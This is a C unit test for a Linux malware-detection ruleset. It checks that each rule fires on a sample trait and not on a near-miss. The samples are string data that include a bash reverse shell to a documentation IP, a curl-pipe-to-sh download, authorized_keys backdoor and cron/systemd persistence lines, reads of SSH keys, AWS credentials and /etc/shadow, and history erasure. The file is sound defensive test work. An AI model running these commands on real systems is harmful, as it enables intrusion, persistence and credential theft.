/* rules/linux-resident.yar: each rule fires on its trait, and not on the near miss beside it. All texts are inert. */
#include "code/code.h"
#include "unit.h"

#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#define ELF "\177ELF\2\1\1"

/* `bad` wants the rule, `good` must not have it. A NUL stands for itself: texts are arrays. */
struct trait { const char *rule; const char *bad; size_t bad_n; const char *good; size_t good_n; };
#define T(rule, bad, good) { rule, bad, sizeof(bad) - 1, good, sizeof(good) - 1 }

static const struct trait traits[] = {
	T("persistence_cron_writer", "#!/bin/sh\n(crontab -l 2>/dev/null; echo x) | crontab -\n", "#!/bin/sh\ncrontab -l | grep backup\n"),
	T("persistence_cron_writer", ELF "\0/etc/cron.d/sysupd\0*/5 * * * * root /x\0", ELF "\0/etc/cron.d/\0usage: at midnight\0"),
	T("persistence_autostart", ELF "\0%s/.config/autostart/x.desktop\0[Desktop Entry]\nExec=%s\n\0", ELF "\0[Desktop Entry]\nExec=%s\n\0"),
	T("persistence_preload", ELF "\0/etc/ld.so.preload\0", ELF "\0/etc/ld.so.preload\0_rtld_global\0"),
	T("persistence_authorized_keys", "#!/bin/sh\necho ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKE >> ~/.ssh/authorized_keys\n",
	  "#!/bin/sh\ngrep -c . ~/.ssh/authorized_keys\n"),
	T("persistence_unit_writer", "#!/bin/sh\ncat >/etc/systemd/system/x.service <<E\n[Service]\nExecStart=/x\n[Install]\nWantedBy=multi-user.target\nE\n",
	  "#!/bin/sh\n# reads [Service] and ExecStart=\n"),
	T("persistence_rc", "#!/bin/sh\necho '/x &' >> ~/.bashrc\n", "#!/bin/sh\n. ~/.bashrc\n"),
	T("self_deletion", "#!/bin/sh\nrm -f $0\n", "#!/bin/sh\nrm -f $1\n"),
	T("memory_only", ELF "\0memfd_create\0fexecve\0", ELF "\0memfd_create\0write\0"),
	T("hidden_folder", ELF "\0/usr/lib/.sysd/udevd\0", ELF "\0/tmp/.X11-unix/X%d\0"),
	T("kernel_thread_name", ELF "\0[kworker/0:1]\0prctl\0", ELF "\0kworkers at work\0prctl\0"),
	T("trace_defence", ELF "\0TracerPid:\0", "#!/bin/sh\ngrep TracerPid /proc/1/status\n"),
	T("process_injection", ELF "\0ptrace\0process_vm_writev\0/proc/%d/maps\0", ELF "\0ptrace\0/proc/self/maps\0"),
	T("packer_upx", ELF "\0$Info: This file is packed with the UPX executable packer\0", ELF "\0packed\0"),
	T("shell_reverse", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "#!/bin/bash\nexec bash -i\n"),
	T("download_and_run", "#!/bin/sh\ncurl -s http://192.0.2.1/i.sh | sh\n", "#!/bin/sh\ncurl -s http://192.0.2.1/i.json | jq .\n"),
	T("miner", ELF "\0stratum+tcp://pool.example:3333\0", ELF "\0stratum of rock\0"),
	T("irc_bot", ELF "\0NICK %s\0JOIN %s\0PRIVMSG %s :done\0udpflood\0", ELF "\0NICK %s\0JOIN %s\0PRIVMSG %s :hello\0"),
	T("flooder", ELF "\0xc3511\0vizxv\0", ELF "\0admin\0root\0"),
	T("competitor_killer", "#!/bin/sh\npkill -9 kinsing\n", "#!/bin/sh\npkill -9 cat\n"),
	T("history_eraser", "#!/bin/sh\nunset HISTFILE\nrm -f ~/.bash_history\n", "#!/bin/sh\nunset HISTFILE\n"),
	T("xor_decoder", ELF "\0mprotect\0\x30\x04\x0f\x48\xff\xc1\x48\x39\xd1\x75\xf4\xba\x07\x00\x00\x00", ELF "\0mprotect\0\x31\xc0\x48\xff\xc1"),
	T("credential_access", "#!/bin/sh\ncat ~/.ssh/id_rsa ~/.aws/credentials /etc/shadow ~/.kube/config\n", "#!/bin/sh\nssh -i ~/.ssh/id_rsa host\n"),
	T("kernel_rootkit", ELF "\0vermagic=6.1\0sys_call_table\0", ELF "\0vermagic=6.1\0ext4\0"),
	T("preload_rootkit", ELF "\0\0\0\0\0\0\0\0\0\3\0\0readdir\0readdir64\0dlsym\0/proc/self/fd/%d\0/proc/net/tcp\0", ELF "\0\0\0\0\0\0\0\0\0\3\0\0readdir\0dlsym\0"),
};

static bool fires(struct rules *r, const char *rule, const char *text, size_t n)
{
	struct err e = { 0 };
	json_t *list = rules_scan(r, text, n, 5, &e), *o;
	bool hit = false;
	size_t i;

	json_array_foreach(list, i, o)
		hit |= !strcmp(jsonio_str(o, "name"), rule);
	json_decref(list);
	return hit;
}

/* The names in that file, private ones left out, each with its description, technique and weight. */
static void test_meta(const char *folder)
{
	char *path = buf_printf("%s/linux-resident.yar", folder), *line, *save = NULL;
	size_t rules = 0, described = 0, weighed = 0, techniques = 0;
	struct buf b = { 0 };
	struct err e = { 0 };

	if (io_slurp_path(path, CAP_SLURP, &b, &e))
		printf("# %s\n", e.msg);
	for (line = strtok_r((char *)b.p, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char name[64];

		described += strstr(line, "\tdescription = \"") != NULL;
		weighed += strstr(line, "\tweight = ") != NULL;
		techniques += strstr(line, "\ttechnique = \"T") != NULL;
		if (sscanf(line, "rule %63s", name) == 1) {
			bool tested = false;

			rules++;
			for (size_t i = 0; i < sizeof traits / sizeof *traits; i++)
				tested |= !strcmp(traits[i].rule, name);
			OK(tested, name);
		}
	}
	OK(rules > 20 && described == rules && weighed == rules && techniques == rules, "each rule says what it means and weighs");
	buf_free(&b);
	free(path);
}

/* Compiled rules that were handed on tell the same as those that were compiled, and nobody who has them can change them. */
static void test_saved(struct rules *r)
{
	static const char sample[] = "#!/bin/sh\n(crontab -l 2>/dev/null; echo x) | crontab -\n";
	struct err e = { 0 };
	int fd = rules_save(r, &e);
	off_t size = fd < 0 ? 0 : lseek(fd, 0, SEEK_END);
	const void *p = size > 0 ? mmap(NULL, (size_t)size, PROT_READ, MAP_PRIVATE, fd, 0) : MAP_FAILED;
	struct rules *again = p == MAP_FAILED ? NULL : rules_load(p, (size_t)size, &e);
	json_t *was = rules_scan(r, sample, sizeof sample - 1, 5, &e), *is = again ? rules_scan(again, sample, sizeof sample - 1, 5, &e) : NULL;

	OK(json_array_size(was) > 0 && json_equal(was, is), "rules that were saved tell the same");
	OK(pwrite(fd, "x", 1, 0) < 0 && ftruncate(fd, 0) < 0, "nobody can change them");
	OK(p != MAP_FAILED && !rules_load(p, (size_t)size / 2, &e) && e.code == EX_SOFTWARE, "half of them are none");
	json_decref(was);
	json_decref(is);
	rules_free(again);
	if (p != MAP_FAILED)
		munmap((void *)(uintptr_t)p, (size_t)size);
	io_close(&fd);
}

int main(void)
{
	char *folder = spawn_share(".");
	struct err e = { 0 };
	struct rules *r = rules_open(folder, &e);

	if (!r) {
		printf("# %s\n", e.msg);
		return 1;
	}
	for (size_t i = 0; i < sizeof traits / sizeof *traits; i++) {
		const struct trait *t = &traits[i];

		OK(fires(r, t->rule, t->bad, t->bad_n) && !fires(r, t->rule, t->good, t->good_n), t->rule);
	}
	test_meta(folder);
	test_saved(r);
	rules_free(r);
	free(folder);
	return unit_end();
}
